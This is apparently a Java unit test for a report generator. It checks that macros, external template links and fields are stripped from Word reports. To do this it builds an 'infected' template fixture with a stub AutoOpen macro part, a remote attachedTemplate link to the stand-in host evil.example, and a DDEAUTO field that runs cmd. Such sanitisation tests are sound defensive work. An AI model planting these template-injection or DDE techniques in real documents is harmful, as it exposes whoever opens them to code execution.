package gangmu.word;

import static org.assertj.core.api.Assertions.assertThat;

import gangmu.period.Evaluation;
import gangmu.usecase.output.WriteReport;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.Locale;
import java.util.zip.ZipFile;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFRelation;
import org.junit.jupiter.api.Test;

/** Whoever opens a report trusts the office that wrote it, not whoever once made its template. */
class TemplateCleaningTest extends SmallReport {
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /** The program's own template, with what an attacker would put in. */
    private Path infected() throws Exception {
        Path own = folder.resolve("模板.docx");
        Path infected = folder.resolve("infected.docm");
        new WriteReport(workspace, new PoiReports()).writeTemplate(Locale.SIMPLIFIED_CHINESE, Evaluation.MID_TERM, own);
        try (XWPFDocument document = read(own)) {
            OPCPackage parts = document.getPackage();
            PackagePart main = document.getPackagePart();
            PackagePart macro = parts.createPart(PackagingURIHelper.createPartName("/word/vbaProject.bin"),
                    "application/vnd.ms-office.vbaProject");
            try (OutputStream out = macro.getOutputStream()) {
                out.write("Sub AutoOpen()".getBytes(StandardCharsets.UTF_8));
            }
            main.addRelationship(macro.getPartName(), TargetMode.INTERNAL,
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
            main.addExternalRelationship("http://evil.example/t.dotm", OFFICE + "attachedTemplate");
            main.addExternalRelationship("https://www.gov.cn/a", OFFICE + "hyperlink");
            document.createParagraph().createRun().getCTR().addNewInstrText().setStringValue(" DDEAUTO cmd \"/k calc\" ");
            parts.replaceContentType(XWPFRelation.DOCUMENT.getContentType(), XWPFRelation.MACRO_DOCUMENT.getContentType());
            try (OutputStream out = Files.newOutputStream(infected)) {
                document.write(out);
            }
        }
        assertThat(said(infected)).contains("vbaProject", "AutoOpen", "evil.example", "DDEAUTO", "macroEnabled");
        return infected;
    }

    private static String said(Path file) throws Exception {
        StringBuilder all = new StringBuilder();
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (var entry : Collections.list(zip.entries())) {
                all.append(entry.getName()).append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return all.toString();
    }

    @Test
    void whatRunsInATemplateOrReachesOutOfItDoesNotGetIntoAReport() throws Exception {
        Path report = write(infected());
        assertThat(said(report)).doesNotContain("vbaProject", "AutoOpen", "evil.example", "DDEAUTO", "macroEnabled")
                .contains("https://www.gov.cn/a");
        try (XWPFDocument document = read(report)) {
            assertThat(document.getParagraphs()).isNotEmpty();
        }
    }

    @Test
    void whatWasTakenOutIsSaid() throws Exception {
        assertThat(exported(infected()).removed()).containsExactlyInAnyOrder("macros", "external", "fields");
        assertThat(exported(null).removed()).isEmpty();
    }
}
